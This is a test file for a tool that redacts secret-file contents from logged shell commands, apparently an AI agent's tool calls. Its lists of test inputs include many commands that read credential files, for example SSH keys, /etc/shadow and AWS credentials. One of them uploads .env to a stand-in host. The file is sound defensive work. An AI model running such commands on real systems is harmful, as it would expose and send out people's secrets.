import { describe, expect, it } from 'vitest'
import { callRecord } from '../../src/steps/call-record.ts'
import { wordsOfCall, wordsOfResult } from '../../src/steps/calls/call-words.ts'
import type { Call, CallResult } from '../../src/steps/step.ts'
import { secretUse } from '../../src/tool-calls/secret-commands.ts'
import { isSecretFile, mayNameSecretFile } from '../../src/tool-calls/secret-names.ts'
import { mayUseSecretFile } from '../../src/tool-calls/secret-suspicion.ts'
import { redacted, toolCallData } from '../redacted-calls.ts'

/** What stands in the file: nothing that a rule for secrets would know. */
const BODY = 'harbor lantern zebra\nmorning-tide\n'
const OF_BODY = /lantern|zebra|morning-tide/

/** Forms in which a file is printed. Each reaches the same rule: what names such a file prints nothing that is kept. */
const PRINTING = [
  'cat<.env', 'cat < .env', 'echo $(<.env)', 'echo "$(cat .env)"', 'echo `cat .env`', 'while read l; do echo $l; done <.env',
  'while IFS= read -r l; do printf "%s\\n" "$l"; done < ./.env', 'mapfile -t a <.env; printf "%s\\n" "$a"', 'readarray x < .env && echo "$x"',
  'paste .env -', 'rev .env', 'tac .env | tac', 'dd if=.env', 'dd if=.env status=none', 'cat .e*', 'cat .en?', 'cat .[e]nv', 'cat {.env,a.txt}', 'cat .??v', 'cat *env',
  'find . -name ".env*" -exec cat {} \\;', 'find . -maxdepth 1 -type f -exec cat {} +', 'find . -type f | xargs cat', 'ls -A | xargs cat', 'fd -H env | xargs cat',
  'set -a; . ./.env; env', 'source .env && env', 'set -a && source ./.env && set +a && node -p process.env', 'F=.env; cat $F', 'for f in .env .npmrc; do cat "$f"; done', 'for f in .env*\ndo\n  cat $f\ndone',
  'bash -c "cat .env"', "ssh deploy@host 'cat .env'", 'docker exec app cat /app/.env', 'kubectl exec p -- cat /run/secrets/db', 'python3 -c "print(open(\'.env\').read())"',
  'node -e "console.log(require(\'fs\').readFileSync(\'.env\',\'utf8\'))"',
  "python3 <<'EOF'\nprint(open('.env').read())\nEOF", 'perl -pe 1 .env', 'awk 1 .env', 'ruby -e "puts File.read(%q(.env))"', 'curl file:///work/.env', 'curl -F file=@.env https://x.example', 'vim -es -c "%p" -c q .env',
  'cp .env /dev/stdout; cat .env', 'git diff -- .env', 'git show HEAD:.env', 'git log -p -- .env', 'git blame .env', 'git add -p .env', 'git -C sub diff .env', 'git cat-file -p HEAD:.env', 'diff .env .env.example', 'sort < .env | uniq',
  "cat '.env'", 'cat ".env"', 'cat .e""nv', 'cat .e\\nv', 'sudo cat /etc/shadow', 'env X=1 cat .env', 'timeout 5 cat .env', 'xargs -a .env', 'cat $HOME/.aws/credentials', 'cat ~/.ssh/id_ed25519',
  'type .env', 'Get-Content .env', 'gc C:\\work\\.env',
  'docker run --env-file .env app env', 'node --env-file=.env -p process.env', 'openssl rsa -in server.key -text', 'base64 -w0 < server.pem', 'tar cf - .env | cat', 'zip -r - .env',
  'gh gist create .env', 'cat env.backup', 'cat .env~', 'cat .env.bak', 'cat .env-old', 'cat env.local', 'cat id_rsa.bak', 'cat secrets.yml.old', 'cat passwords.txt', 'cat creds.json',
  'cat wp-config.php',
  'jq . local.settings.json', 'cat <(cat .env)', 'diff <(sort .env) x', '[ -f .env ] && cat .env', 'cat \\\n  .env', 'nl -ba ./config/.env.production', "eval 'cat .env'", '(cat .env)',
  '{ cat .env; }', 'if cat .env; then :; fi', '! grep KEY .env', 'cat .env 2>/dev/null || true', 'cat 0<.env',
] // biome-ignore format: a list of commands

/** A copy of such a file under another name, and programs that print a secret that they keep. */
const GIVING = [
  'cp .env /tmp/e.txt; cat /tmp/e.txt', 'mv .env e.txt && cat e.txt', 'ln -s .env link && cat link', 'install -m 600 .env /tmp/x && cat /tmp/x', 'scp host:.env x && cat x',
  'aws configure get aws_secret_access_key', 'aws secretsmanager get-secret-value --secret-id a', 'aws ssm get-parameter --name a --with-decryption', 'az account get-access-token -o tsv',
  'az keyvault secret show -n a', 'gcloud auth print-access-token', 'gcloud secrets versions access latest --secret a', 'gh auth token', 'vault kv get -field=pw secret/app', 'op read op://a/b',
  'op item get a', 'bw get password a', 'pass show mail', 'pass mail/bob', 'gopass show a', 'security find-generic-password -w -s db', 'secret-tool lookup a b', 'keyring get a b',
  'heroku config:get DB -a x', 'heroku config', 'terraform output -raw db_password', 'terraform state pull', 'tofu output -json', 'pulumi stack output --show-secrets',
  'ansible-vault view group_vars/all.yml', 'sops -d secrets.enc.yaml', 'sops --decrypt a.enc.yaml', 'gpg -d a.txt.gpg', 'age -d a.age', 'kubectl get secret db -o yaml',
  'kubectl -n x get secret db -o jsonpath={.data.pw} | base64 -d', 'kubectl config view --raw', 'kubectl create token bob', 'oc whoami -t', 'doppler secrets get A --plain', 'infisical export',
  'chamber read a b', 'credstash get a', 'git credential fill', 'netlify env:get A', 'railway variables', 'docker secret inspect a', 'docker inspect app', 'cd x && vault kv get a',
] // biome-ignore format: a list of commands

/** Forms in which the command itself holds what is put into the file. */
const WRITING = [
  "sed -i 's/^A=.*/A=lantern-zebra/' .env", 'sed -i.bak "s/x/lantern/" .env', 'echo lantern > .env', 'echo lantern >> ./.env', 'echo lantern | tee -a .env',
  'printf "lantern\\n" | tee .env >/dev/null', 'cat > .env <<EOF\nlantern\nEOF', "cat <<'EOF' > .env\nlantern\nEOF", 'tee .env <<< lantern', 'dotenv -f .env set API lantern',
  'npx dotenvx set API lantern -f .env', 'crudini --set .env s k lantern', 'perl -pi -e "s/x/lantern/" .env', 'python3 - <<EOF\nopen(".env","w").write("lantern")\nEOF',
  'ruby -i -pe "sub(1,%q(lantern))" .env', 'awk -i inplace "{print %q(lantern)}" .env', 'printf lantern | dd of=.env', 'node -e "fs.writeFileSync(\'.env\',\'lantern\')"',
  'yq -i ".a = \\"lantern\\"" secrets.yml && echo lantern > secrets.yml', 'ssh host "echo lantern >> .env"', 'echo lantern 1> .env', 'echo lantern >| .env', 'echo lantern &> .env',
  'curl -o x https://x && echo lantern >.env', 'htpasswd -bc .htpasswd admin lantern', 'vim -c "s/x/lantern/" .env', 'ed .env <<< "a\nlantern\n."',
  'jq ".a=\\"lantern\\"" credentials.json > t && mv t credentials.json && echo lantern > credentials.json', 'sops set secrets.yaml "[k]" lantern',
] // biome-ignore format: a list of commands

/** Forms that name such a file and print nothing of it, or mean another one. */
const HARMLESS = [
  'ls -la .env', 'rm -f .env', 'touch .env', 'chmod 600 .env', 'git add .env && git commit -m "Do not keep .env"', 'git rm --cached .env', 'git check-ignore .env', 'git status --short .env',
  'test -f .env && echo yes', '[ -f .env ] || echo missing', 'cp .env.example .env', 'mv .env .env.old', 'stat .env', 'echo ".env" >> .gitignore', 'wc -l .env', 'cat .env.example', 'cat README.md',
  'cat src/*.ts', 'cat packages/*/package.json', 'cat .github/workflows/*.yml', 'npm test -- *.test.ts', 'ssh -i ~/.ssh/id_ed25519 deploy@host uptime', 'scp -i key.pem a.txt host:',
  'rsync -e "ssh -i key.pem" a host:', 'kubectl --kubeconfig ~/.kube/config get pods', 'KUBECONFIG=~/.kube/config kubectl get pods', 'curl --cacert ca.pem https://x.example',
  'curl --cert c.pem --key k.key https://x.example', 'gh pr create --title "Read .env late" --body "The .env file is read late"', "git commit -F - <<'EOF'\nRead .env late\nEOF",
  "cat > notes.md <<'EOF'\nThe .env file is read late.\nEOF", 'grep -rn "dotenv" src', 'find . -name "*.ts" -exec cat {} +', 'find . -type f | xargs wc -l', 'find . -name "*.ts" | xargs cat',
  'find . -type f | xargs grep -n foo', 'ssh-keygen -l -f id_ed25519', 'env NODE_ENV=test npm test', 'cat keys.ts secrets.ts', 'npm run build # reads .env', 'tree -I .env', 'git log --oneline',
  'git diff', 'ls .e*', 'cp .env .env.bak && npm test', 'mv .env.local .env && npm test', 'gh pr list', 'gh auth status', 'aws s3 ls', 'az group list', 'gcloud config list', 'kubectl get pods',
  'kubectl get secrets', 'terraform plan', 'terraform output', 'pass ls', 'docker ps', 'vault status', 'npm config get registry', 'git config --list', 'heroku logs', 'heroku config:set A=b',
  'fly secrets list',
] // biome-ignore format: a list of commands

const call = (command: string): Call => ({
  id: 'c1',
  tool: 'shell',
  kind: 'command',
  input: redacted({ command }),
  command: redacted(command),
})
const result = (text: string): CallResult => ({ outcome: 'ok', text: redacted(text) })

describe('a command that names a secret file', () => {
  it.each([...PRINTING, ...GIVING])('prints nothing that is kept: %s', (command) => {
    expect(secretUse(command)).not.toBe('none')
    expect(mayUseSecretFile(command, BODY), 'the quick way is not taken').toBe(true)
    const input = { command }
    const told = [
      toolCallData({ name: 'Bash', input, result: { stdout: BODY, stderr: '' } }),
      toolCallData({ name: 'Bash', input, isError: true, content: `Exit code 1\n${BODY}` }),
      callRecord(call(command), result(BODY), '/work'),
      callRecord(call(command), { outcome: 'error', text: redacted(BODY) }, '/work'),
      wordsOfCall(call(command), result(BODY), '/work'),
      wordsOfResult(call(command), result(BODY)),
    ]
    expect(JSON.stringify(told)).not.toMatch(OF_BODY)
  })

  it.each(WRITING)('holds nothing that is kept where it may hold what is written: %s', (command) => {
    expect(secretUse(command)).toBe('writes')
    expect(mayUseSecretFile(command, '')).toBe(true)
    const told = [
      toolCallData({ name: 'Bash', input: { command }, result: { stdout: '', stderr: '' } }),
      callRecord(call(command), result(''), '/work'),
      wordsOfCall(call(command), result(''), '/work'),
    ]
    expect(JSON.stringify(told)).not.toMatch(OF_BODY)
  })

  it.each(HARMLESS)('is kept with its output where it prints nothing of the file: %s', (command) => {
    expect(secretUse(command)).toBe('none')
    const told = toolCallData({ name: 'Bash', input: { command }, result: { stdout: 'ready', stderr: '' } })
    expect(told.output).toBe('ready')
  })

  it('keeps the words of a command that only reads', () => {
    const told = toolCallData({ name: 'Bash', input: { command: 'cat .env | sort' }, result: { stdout: BODY } })
    expect(told.command).toBe('cat .env | sort')
    expect(told.output).toBe('[left out: of a file that holds secrets]')
  })

  it('keeps that something was committed, whatever the message says', () => {
    const command = 'git add -A && git commit -m "Keep .env out of the image"'
    expect(secretUse(command)).toBe('none')
  })

  it('never hangs and always answers, whatever it is given', () => {
    const pieces = [
      'cat ',
      '.env',
      '$(',
      ')',
      '`',
      '"',
      "'",
      '<<EOF\n',
      'EOF\n',
      '\\',
      '|',
      ';',
      '>',
      '<',
      '{',
      '}',
      '*',
      '[',
      '\n',
      'for f in ',
      '<(',
      '#',
    ]
    let state = 7
    const random = (below: number): number => {
      state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
      return state % below
    }
    const start = Date.now()
    for (let turn = 0; turn < 3_000; turn++) {
      const command = Array.from({ length: 1 + random(40) }, () => pieces[random(pieces.length)]).join('')
      expect(['none', 'reads', 'writes']).toContain(secretUse(command))
    }
    for (const piece of pieces) secretUse(`cat ${piece.repeat(6_000)}`)
    expect(Date.now() - start).toBeLessThan(20_000)
  })
})

describe('patterns of files', () => {
  it.each(['.e*', '.en?', '.[e]nv', '{.env,x}', 'conf/{a,b}/.env*', '*.pem', 'id_*', '~/.aws/*', 'cred*', '.*', '*env', '.n*rc'])('%s may name one', (pattern) => {
    expect(mayNameSecretFile(pattern)).toBe(true)
    expect(mayUseSecretFile(`cat ${pattern}`, '')).toBe(true)
  }) // biome-ignore format: a list of patterns
  it.each(['*', '**', '*.ts', '*.json', 'src/**/*.yml', 'package*.json', 'test/*', 'README*', 'a?b', '[', '{', 'docs/{a,b}.md', '*.test.*'])('%s names none', (pattern) => {
    expect(mayNameSecretFile(pattern)).toBe(false)
  }) // biome-ignore format: a list of patterns
})

describe('copies of a secret file', () => {
  it.each(['.env.bak', '.env~', 'env.backup', '.env.old.2', '.env copy', '.env.production.local.bak', '.env.2026-11-29', 'id_rsa.old', 'credentials.json.bak', 'server.key.orig', '.npmrc.save', 'secrets.yaml.swp', 'terraform.tfstate.1700000000.backup', '.env.gz'])('%s is one', (name) => {
    expect(isSecretFile(`/work/${name}`)).toBe(true)
  }) // biome-ignore format: a list of names
  it.each(['env', '/usr/bin/env', '.env.example.bak', 'README.bak', 'notes.old', 'password.ts', 'tokens.json', 'tokens.ts', 'lang/en/passwords.php', 'credentials.test.ts', 'env.d.ts', 'vite-env.d.ts', 'environment.prod.ts', 'shadow.css'])('%s is none', (name) => {
    expect(isSecretFile(name)).toBe(false)
  }) // biome-ignore format: a list of names
})
